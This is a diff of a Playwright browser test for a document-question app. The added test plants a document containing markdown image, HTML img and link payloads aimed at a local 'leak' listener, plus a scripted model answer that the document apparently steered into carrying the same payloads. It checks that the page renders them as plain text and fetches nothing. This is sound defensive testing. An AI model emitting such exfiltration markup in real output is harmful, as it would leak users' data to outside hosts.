@@ -1,57 +1,82 @@
-"""One real browser: `streamlit run app.py` on the sample corpus, driven by headless Chromium (Debian's
-package) through Playwright. Asks a sample question, waits for the cited answer, opens the cited page,
-adds a document by upload, and saves screenshots under the test's output folder."""
+"""One real browser: `streamlit run app.py`, driven by headless Chromium (Debian's package) through
+Playwright. On the sample corpus: asks a sample question, waits for the cited answer, opens the cited
+page, adds a document by upload, and saves screenshots under the test's output folder. On a hostile
+document and a model steered by it: the browser fetches nothing and links nowhere."""
 
+import contextlib
 import os
 import re
 import shutil
 import subprocess
 import sys
-import time
+import threading
 import urllib.request
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
 
 from conftest import ROOT, free_port
+from helpers import wait_for
 
 CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
 QUESTION = "Which state's law governs the NETGEAR distributor agreement?"
 
 
-@pytest.fixture
-def served(sample_index, tmp_path):
-    index = tmp_path / "index"  # a copy: the test adds a document
-    shutil.copytree(sample_index.index_dir, index)
+@contextlib.contextmanager
+def streamlit_app(index, collection, log_dir, **env):
     port = free_port()
-    env = {**os.environ, "RAG_INDEX_DIR": str(index), "RAG_COLLECTION": sample_index.collection,
-           "RAG_LLM_BACKEND": "embedded", "RAG_MAX_ANSWER_TOKENS": "48"}
-    log = open(tmp_path / "streamlit.log", "w")
+    env = {**os.environ, "RAG_INDEX_DIR": str(index), "RAG_COLLECTION": collection, **env}
+    log = open(log_dir / "streamlit.log", "w")
     proc = subprocess.Popen([sys.executable, "-m", "streamlit", "run", str(ROOT / "app.py"), "--server.port",
                              str(port), "--server.headless", "true"], cwd=ROOT, env=env, stdout=log,
                             stderr=subprocess.STDOUT)
     url = f"http://localhost:{port}"
-    deadline = time.monotonic() + 120
-    while True:
+
+    def healthy():
+        assert proc.poll() is None, (log_dir / "streamlit.log").read_text()
         try:
             urllib.request.urlopen(f"{url}/_stcore/health", timeout=2)
-            break
+            return True
         except OSError:
-            assert proc.poll() is None and time.monotonic() < deadline, (tmp_path / "streamlit.log").read_text()
-            time.sleep(0.5)
-    yield url
-    proc.terminate()
-    proc.wait(timeout=30)
+            return False
+
+    try:
+        assert wait_for(healthy, timeout=120), (log_dir / "streamlit.log").read_text()
+        yield url
+    finally:
+        proc.terminate()
+        proc.wait(timeout=30)
 
 
-@pytest.mark.slow
-def test_ask_in_a_real_browser(served, tmp_path):
-    from playwright.sync_api import expect, sync_playwright
+@contextlib.contextmanager
+def chromium():
+    from playwright.sync_api import sync_playwright
 
     assert os.path.exists(CHROMIUM), "install Debian's chromium (apt-get install chromium): .ci/run does"
     with sync_playwright() as p:
         browser = p.chromium.launch(executable_path=CHROMIUM, args=[
             "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
             "--disable-sync", "--no-first-run"])
+        try:
+            yield browser
+        finally:
+            browser.close()
+
+
+@pytest.fixture
+def served(sample_index, tmp_path):
+    index = tmp_path / "index"  # a copy: the test adds a document
+    shutil.copytree(sample_index.index_dir, index)
+    with streamlit_app(index, sample_index.collection, tmp_path, RAG_LLM_BACKEND="embedded",
+                       RAG_MAX_ANSWER_TOKENS="48") as url:
+        yield url
+
+
+@pytest.mark.slow
+def test_ask_in_a_real_browser(served, tmp_path):
+    from playwright.sync_api import expect
+
+    with chromium() as browser:
         page = browser.new_page(viewport={"width": 1280, "height": 1600})
         page.goto(served)
         expect(page.get_by_text("Answering with the embedded model")).to_be_visible(timeout=120_000)
@@ -74,8 +99,92 @@ def test_ask_in_a_real_browser(served, tmp_path):
         page.get_by_role("button", name="Add to the knowledge base").click()
         expect(page.get_by_text(re.compile(r"board-minutes\.md: 1 indexed"))).to_be_visible(timeout=120_000)
         page.screenshot(path=str(tmp_path / "library.png"), full_page=True)
-        browser.close()
     assert (tmp_path / "ask.png").stat().st_size > 10_000
     shots = os.environ.get("RAG_SCREENSHOTS")  # where the README's screenshot is refreshed from
     if shots:
         shutil.copy(tmp_path / "ask.png", shots)
+
+
+class Listener:
+    """A real HTTP server on this machine standing for 'outside': every request it gets is a leak."""
+
+    def __init__(self):
+        self.requests: list[str] = []
+        seen = self.requests
+
+        class Handler(BaseHTTPRequestHandler):
+            def log_message(self, *args):
+                pass
+
+            def do_GET(self):
+                seen.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "image/png")
+                self.end_headers()
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.origin = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self):
+        self.server.shutdown()
+
+
+@pytest.mark.slow
+def test_hostile_text_and_a_steered_answer_load_nothing_in_the_browser(tmp_path, embedder):
+    """A document with an image after a blank line (which used to end the passage's HTML block and be
+    fetched), raw HTML, a link and a bare URL; and an answer from a model it steered, carrying the same.
+    The page shows them as text: the listener gets no request, and the page holds no link or image to it."""
+    from playwright.sync_api import expect
+
+    from rag.config import Settings
+    from rag.indexer import ingest
+
+    listener = Listener()
+    leak = listener.origin
+    docs = tmp_path / "docs"
+    docs.mkdir()
+    (docs / "payment-terms.txt").write_text(
+        "Payment terms. The Distributor shall pay each invoice within thirty days of receipt.\n\n"
+        f"![logo]({leak}/pixel.png?leak=passage)\n\n<img src=\"{leak}/img.png?leak=html\">\n\n"
+        f"[Click here]({leak}/link?leak=link) or see {leak}/bare?leak=url and :red[styled] $x^2$\n")
+    settings = Settings(index_dir=tmp_path / "index", collection="hostile")
+    ingest(docs, settings, embedder=embedder)
+    answer = tmp_path / "answer.txt"
+    answer.write_text(f"Payment is due within thirty days [1].\n\n![chart]({leak}/answer.png?leak=answer) "
+                      f"<img src={leak}/answer2.png> [details]({leak}/answer-link)")
+    llm_port = free_port()
+    llm = subprocess.Popen([sys.executable, str(ROOT / "tests" / "scripted_llm.py"), str(llm_port), str(answer)])
+    try:
+        with streamlit_app(settings.index_dir, settings.collection, tmp_path, RAG_LLM_BACKEND="vllm",
+                           RAG_LLM_URL=f"http://127.0.0.1:{llm_port}", RAG_MAX_ANSWER_TOKENS="64") as url, \
+                chromium() as browser:
+            page = browser.new_page(viewport={"width": 1280, "height": 1600})
+            requested: list[str] = []
+            page.on("request", lambda r: requested.append(r.url))
+            page.goto(url)
+            box = page.get_by_placeholder("Ask a question about your documents")
+            expect(box).to_be_visible(timeout=120_000)
+            box.fill("When must the distributor pay an invoice?")
+            box.press("Enter")
+            expect(page.get_by_text("Payment is due within thirty days").first).to_be_visible(timeout=240_000)
+            expect(page.get_by_text(re.compile(r"^\[1\] payment-terms\.txt, p\. 1"))).to_be_visible(timeout=60_000)
+            page.screenshot(path=str(tmp_path / "hostile.png"), full_page=True)
+            # shown as the characters they are ...
+            body = page.locator("body")
+            expect(body).to_contain_text(f"![logo]({leak}/pixel.png?leak=passage)")
+            expect(body).to_contain_text(f"<img src=\"{leak}/img.png?leak=html\">")
+            expect(body).to_contain_text(f"![chart]({leak}/answer.png?leak=answer)")
+            expect(body).to_contain_text(f"[details]({leak}/answer-link)")
+            # ... and nothing that could load or link: no element points at the listener, none was requested
+            port = leak.rsplit(":", 1)[1]
+            for selector in ("img", "a", "iframe", "source", "video", "audio", "object", "embed", "link"):
+                for attribute in ("src", "href", "data", "srcset"):
+                    assert page.locator(f"{selector}[{attribute}*='{port}']").count() == 0, (selector, attribute)
+            assert not [u for u in requested if port in u], requested
+        assert (tmp_path / "answer.log").read_text().count("/v1/chat/completions") >= 1  # the steered model answered
+    finally:
+        llm.terminate()
+        llm.wait(timeout=30)
+        listener.close()
+    assert listener.requests == []
